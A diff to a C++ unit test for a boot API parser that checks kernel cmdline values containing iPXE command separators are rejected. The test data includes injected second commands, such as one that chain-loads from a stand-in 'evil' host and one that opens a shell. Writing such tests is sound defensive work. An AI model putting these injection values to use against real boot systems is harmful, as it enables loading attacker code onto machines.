@@ -44,6 +44,20 @@ TEST(BootApi, MalformedAndHostileAnswersFail) {
   }
 }
 
+// Review (issue 20): iPXE ends a command at "||", "&&", ";" or a word starting with '#':
+// an API cmdline holding one would have added commands after the kernel line.
+TEST(BootApi, CmdlineWordsThatEndIpxesCommandFail) {
+  for (const char* cmdline : {"quiet || shell", "a && chain http://evil/", "a ; chain x", "a #comment", "||"}) {
+    const auto a = read_boot_api_answer(200, std::string(R"({"kernel":"k","cmdline":")") + cmdline + "\"}");
+    EXPECT_EQ(a.outcome, ApiOutcome::Failed) << cmdline;
+    EXPECT_NE(a.detail.find("would end iPXE's kernel line"), std::string::npos) << a.detail;
+  }
+  for (const char* cmdline : {"ds=nocloud;s=http://h/", "a|b", "x=#1", "console=ttyS0 ${net0/mac}"})
+    EXPECT_EQ(read_boot_api_answer(200, std::string(R"({"kernel":"k","cmdline":")") + cmdline + "\"}").outcome,
+              ApiOutcome::Boot)
+        << cmdline;
+}
+
 TEST(BootApi, BoundsOnWhatAnAnswerHolds) {
   EXPECT_EQ(read_boot_api_answer(200, std::string(100000, '[')).outcome, ApiOutcome::Failed);
   EXPECT_EQ(read_boot_api_answer(200, R"({"kernel":"k","x":[[[[[[[[[1]]]]]]]]]})").outcome, ApiOutcome::Failed);
